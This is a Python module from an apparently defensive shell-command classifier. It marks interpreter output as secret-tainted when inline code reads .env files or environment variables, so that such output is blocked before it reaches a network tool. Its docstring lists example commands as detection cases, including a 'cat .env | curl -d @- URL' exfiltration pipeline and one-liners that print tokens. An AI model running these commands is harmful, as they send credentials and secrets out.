"""The output of an interpreter that runs inline code or a script: what it may print.

An interpreter's output is marked ``exec`` (it runs code the classifier reads elsewhere).
It also carries secret data, so that it blocks when it reaches a network tool, like ``cat
.env | curl -d @- URL`` does:

* code that reads a secret file (``perl -e 'open(F, ".env"); print <F>'``, ``ruby -e 'puts
  File.read(".env")'``, ``php -r 'readfile(".env");'``, ``node -e '..readFileSync(".env")'``;
  :func:`._codesecrets.secret_file_read`);
* a secret file given as an operand after the code or script (``perl -ne print .env``,
  ``perl -pe '' .env``, ``python -c '..sys.argv[1]..' .env``): ``-n``/``-p``, ``<>``,
  ``ARGF`` and ``sys.argv`` read them;
* secret data on its stdin when the code or a script is given apart from it (``cat .env |
  perl -pe 's/a/b/'``): a filter prints what it reads, as any plain program's output keeps
  its stdin's taint;
* code that reads the environment (``print(os.environ)``, ``process.env.GITHUB_TOKEN``:
  :func:`._codeenv.env_printed`), or runs shell commands whose output is secret data
  (``os.system("env")``, perl's `` `cat .env` ``: ``ran``, from :func:`._interpcode.interp_code`);
  a script written earlier in the command is read the same way (``_sinks.script_sink``).

Reading a secret file alone still passes (``ruby -e 'puts File.read(".env")'``), as ``cat
.env`` does; reading ``VERSION`` or ``README.md`` gives no taint.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ._codeenv import env_printed
from ._codesecrets import secret_file_read
from ._flow import Flow
from ._secrets import secret_file
from ._values import NO_TAINT, Source, Taint

if TYPE_CHECKING:
    from ._resolve import Invocation
    from ._walk import Run
    from ._words import Field

__all__ = ["code_flow", "prints_secrets"]


def prints_secrets(text: str) -> bool:
    """Code ``text`` reads a secret file or the environment: what it prints may be secret."""
    return secret_file_read(text) or env_printed(text)


def code_flow(run: Run, inv: Invocation, code: Field | None, operands: list[Field],
              stdin: Flow | None, ran: Taint = NO_TAINT) -> Flow:
    """The output flow of ``inv`` running ``code`` (None: a script) on ``operands``; ``ran``:
    the secret sources of the shell commands the code runs."""
    span = run.map_span(inv.word.span)
    taint = {Source("exec", inv.name or "a command", span), *ran}
    if stdin is not None and stdin.taint:
        taint.update(s for s in stdin.taint if s.kind == "secret")
    if (code is not None and prints_secrets(code.text)) or (operands and secret_file(
            [f for f in operands if not f.text.startswith("-")])):
        taint.add(Source("secret", inv.name, span))
    return Flow(frozenset(taint), inv.name, inv.word.span)
